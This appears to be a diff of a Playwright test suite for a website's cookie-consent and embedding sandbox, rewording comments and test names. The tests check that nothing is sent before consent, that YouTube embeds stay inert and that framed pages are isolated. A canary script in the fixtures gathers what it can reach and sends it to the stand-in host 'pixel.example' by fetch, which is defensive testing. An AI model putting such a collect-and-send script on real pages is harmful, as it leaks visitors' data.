@@ -9,7 +9,7 @@ const OPERATING = ['cookie_choices', 'date_locale', 'locale']
 const JOB = '/jobs/manipulateur-radio-lille'
 const FILMED = 'pflegefachkraft-koeln'
 
-/** Tries all that a page must be safe from, and tells what it got by the one way that it has: a request. */
+/** Tries everything that a page must prevent, and reports what it got by a request, the only way it has. */
 const CANARY = `<script>
 const got = []
 const attempt = (name, work) => { try { const value = work(); if (value) got.push(name + ':' + value) } catch {} }
@@ -24,7 +24,7 @@ Promise.all([asked, written]).then(() => fetch('https://pixel.example/got?' + en
 addEventListener('message', ({ data }) => fetch('https://pixel.example/view?' + encodeURIComponent(JSON.stringify(data))))
 </script>`
 
-/** Stands in for what Google serves: it sends each event and knows a browser again by a cookie, as the real one does. */
+/** In place of Google's script: sends each event and identifies a browser by a cookie, as the real one does. */
 const GTAG = `if (!document.cookie.includes('_ga=')) document.cookie = '_ga=GA1.1.' + Math.random() + '; path=/'
 const send = (call) => call[0] === 'event' && fetch('https://www.google-analytics.com/g/collect?' + encodeURIComponent(JSON.stringify([...call])))
 const { push } = dataLayer
@@ -47,7 +47,7 @@ test.afterAll(() => server.stop())
 const host = () => `almea.localhost:${server.port}`
 const at = (path: string) => `http://${host()}${path}`
 
-/** Everything that leaves the origin, answered by stubs. */
+/** Records everything that leaves the origin, answered by stubs. */
 async function listen(context: BrowserContext) {
   const gone: URL[] = []
   await context.route(
@@ -67,7 +67,7 @@ async function listen(context: BrowserContext) {
 }
 
 const names = async (context: BrowserContext) => (await context.cookies()).map(({ name }) => name).sort()
-/** Whoever wants to look at their choice again finds it: what that takes is fetched after all that a page loads by itself. */
+/** Opens the cookie settings again. Their code loads after everything that the page loads by itself. */
 async function reopen(page: Page, say: Say) {
   const modal = page.getByRole('dialog', { name: say('consent.TITLE') })
   await expect(async () => {
@@ -78,7 +78,7 @@ async function reopen(page: Page, say: Say) {
 }
 
 for (const locale of ['en', 'fr'] as const)
-  test(`nothing leaves before the choice or after a refusal, in ${locale}`, async ({ browser }) => {
+  test(`sends nothing before the choice or after a rejection, in ${locale}`, async ({ browser }) => {
     const say = await wordsOf(locale)
     const context = await browser.newContext({ locale })
     const heard = await listen(context)
@@ -97,7 +97,7 @@ for (const locale of ['en', 'fr'] as const)
     await context.close()
   })
 
-test('the question slides in and moves nothing', async ({ page }) => {
+test('slides the cookie modal in without a layout shift', async ({ page }) => {
   await page.addInitScript(() => {
     type Shift = PerformanceEntry & { value: number }
     const add = (list: PerformanceObserverEntryList) => {
@@ -113,7 +113,7 @@ test('the question slides in and moves nothing', async ({ page }) => {
   expect(await page.evaluate(() => (window as { shifted?: number }).shifted ?? 0)).toBeLessThan(0.02)
 })
 
-test('after Accept exactly the company’s list is loaded, its own code gets nothing, and taking it back ends it', async ({
+test('loads exactly the company’s list after Accept, gives its own code nothing, and stops on withdrawal', async ({
   browser,
 }) => {
   const say = await wordsOf('en')
@@ -164,7 +164,7 @@ test('after Accept exactly the company’s list is loaded, its own code gets not
   await context.close()
 })
 
-test('on a page that asks nothing, nobody is loaded who came after the choice', async ({ browser }) => {
+test('does not load a recipient added after the choice on a page that does not ask', async ({ browser }) => {
   const context = await browser.newContext({ locale: 'en' })
   const heard = await listen(context)
   const page = await context.newPage()
@@ -184,7 +184,7 @@ test('on a page that asks nothing, nobody is loaded who came after the choice', 
 test.describe('on a phone', () => {
   test.use({ locale: 'fr', viewport: { width: 360, height: 740 } })
 
-  test('a film on YouTube asks YouTube for nothing before it is wanted, and fits the page', async ({ page }) => {
+  test('requests nothing from YouTube before the visitor wants a video, and fits it into the page', async ({ page }) => {
     const say = await wordsOf('fr')
     const heard = await listen(page.context())
     const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)
@@ -203,7 +203,7 @@ test.describe('on a phone', () => {
   })
 })
 
-test('a choice is asked again after six months, not before', async ({ browser }) => {
+test('asks for a choice again after six months, not before', async ({ browser }) => {
   const say = await wordsOf('en')
   const context = await browser.newContext({ locale: 'en' })
   await listen(context)
@@ -221,7 +221,7 @@ test('a choice is asked again after six months, not before', async ({ browser })
   await context.close()
 })
 
-test('the frame’s document is of no origin even when it is opened by itself, and only its company frames it', async ({
+test('serves the frame’s document without an origin even when opened directly, for its company’s frame only', async ({
   browser,
 }) => {
   const context = await browser.newContext()
